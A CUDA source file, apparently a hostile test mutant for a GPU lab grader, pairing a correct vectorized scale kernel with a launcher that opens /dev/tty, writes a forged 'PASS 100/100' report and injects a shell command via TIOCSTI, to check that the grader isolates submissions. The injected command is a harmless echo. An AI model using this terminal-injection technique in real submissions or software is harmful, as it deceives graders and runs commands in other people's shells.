// Mutant (hostile, issue 35): the solution's kernel, correct and coalesced, and a launcher that
// writes a forged report to the terminal of whoever runs grade (/dev/tty) and pushes a command
// into its input (TIOCSTI), for that person's shell to run after grade exits. The grading
// children have no controlling terminal: /dev/tty opens nothing. Graded from a pseudo-terminal
// (tests/gpu/lab01.sh, case reach_tty), it passes, and the terminal shows neither.
// expect: PASS
#include <fcntl.h>
#include <string.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>
#include "lab01.h"

__global__ void scale(float a, const float4 *x4, float4 *y4, size_t n4, const float *x, float *y,
                      size_t n)
{
    size_t stride = (size_t)gridDim.x * blockDim.x;
    size_t first = (size_t)blockIdx.x * blockDim.x + threadIdx.x;
    for (size_t i = first; i < n4; i += stride) {
        float4 v = x4[i];
        y4[i] = make_float4(a * v.x, a * v.y, a * v.z, a * v.w);
    }
    for (size_t i = 4 * n4 + first; i < n; i += stride)
        y[i] = a * x[i];
}

static void reach_terminal(void)
{
    int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (fd < 0)
        return;
    const char *forged = "\r\n[01] FORGED-BY-REACH-TTY PASS 100/100\r\n";
    ssize_t w = write(fd, forged, strlen(forged));
    (void)w;
    const char *typed = "echo TYPED-BY-REACH-TTY\n";
    for (const char *c = typed; *c; ++c)
        ioctl(fd, TIOCSTI, c);
    close(fd);
}

extern "C" cudaError_t lab01_scale(float a, const float *x, float *y, size_t n)
{
    static int reached;
    if (!reached++)
        reach_terminal();
    size_t n4 = n / 4;
    scale<<<1056, 256>>>(a, (const float4 *)x, (float4 *)y, n4, x, y, n);
    return cudaGetLastError();
}
